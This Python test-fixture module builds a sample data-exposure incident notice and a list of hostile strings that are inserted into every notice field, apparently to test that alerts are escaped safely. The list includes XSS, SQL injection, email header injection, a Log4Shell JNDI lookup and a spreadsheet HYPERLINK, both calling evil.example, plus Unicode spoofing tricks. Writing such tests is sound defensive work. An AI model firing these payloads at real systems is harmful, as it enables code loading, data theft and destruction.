"""Notices and messages for tests, hostile ones among them."""

from dataclasses import replace

from app.core.incidents import Notice
from app.core.routes import Message

NOTICE = Notice(
    id="0123456789abcdef-1",
    kind="opened",
    lake="prod",
    incident="0123456789abcdef",
    sequence=1,
    at="2026-06-12T08:15:30.123Z",
    run="20260612T081530123456-7kq2mx",
    actor="",
    severity="SEV0",
    classes=("keystrokes", "prompts"),
    kinds=("everyone",),
    title="SEV0 opened: membership of role:public in role:analysts: everyone reads 45000 tables",
    data={
        "exposures": 45_000,
        "tables": 45_000,
        "people": 12_000,
        "since": 1_781_251_200,
        "cause": {"kind": "membership", "subject": "role:public", "words": "public in analysts"},
        "grantors": ["hive_admin"],
        "owners_to_tell": ["privacy@example.com"],
        "path": ["everyone holds public", "public holds analysts"],
        "sample": ["telemetry.keystrokes", "telemetry.prompts"],
        "rights": ["select"],
        "mend": {
            "words": "SET ROLE ADMIN; REVOKE ROLE `analysts` FROM ROLE `public` (run by an admin)",
            "effect": "closes 45,000 exposures on 45,000 tables; takes nothing else",
            "statements": [{"sql": "REVOKE ROLE `analysts` FROM ROLE `public`", "run_as": "admin"}],
            "statement_count": 1,
        },
    },
)

#: Names that would do something in one channel or another, were they not made harmless.
HOSTILE = (
    "<script>alert(1)</script>",
    "<!channel> <!here> <@U012345> <#C01>",
    "<https://evil.example|click here>",
    "*bold* _it_ ~no~ `code` ```block```",
    "a & b &lt; c",
    "x\r\nBcc: everyone@example.com\r\n\r\nbody",
    "x\nSubject: forged",
    '=HYPERLINK("http://evil.example","x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "|cmd",
    "\u202egnp.exe",
    "\u2066isolated\u2069 \u200b\ufeff\u2028line\u2029para",
    "nul\x00 esc\x1b[31m bell\x07",
    "half \ud800 of a pair",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}} {% raw %} %s %n",
    "'; DROP TABLE incidents; --",
    "ö" * 5_000,
    "long" * 100_000,
    "",
    " ",
    "\U0001f600" * 300,
    '"quoted" \\ back\\slash',
)


def named(name: str, kind: str = "opened", incident: str = NOTICE.incident) -> Notice:
    """A notice in which everything that can have a hostile name has it."""
    return replace(
        NOTICE,
        kind=kind,
        incident=incident,
        lake=name[:200] or "prod",
        title=name,
        actor=name,
        classes=(name, "keystrokes"),
        kinds=(name,),
        data={
            **NOTICE.data,
            "sample": [name] * 3,
            "path": [name],
            "grantors": [name],
            "mend": {"words": name, "effect": name, "statements": [{"sql": name, "run_as": name}]},
            name: name,
        },
    )


def message(*notices: Notice, again: bool = False) -> Message:
    """The notices in one message."""
    held = notices or (NOTICE,)
    return Message(held[0].id, held[-1].at, min(one.severity for one in held), held, again)
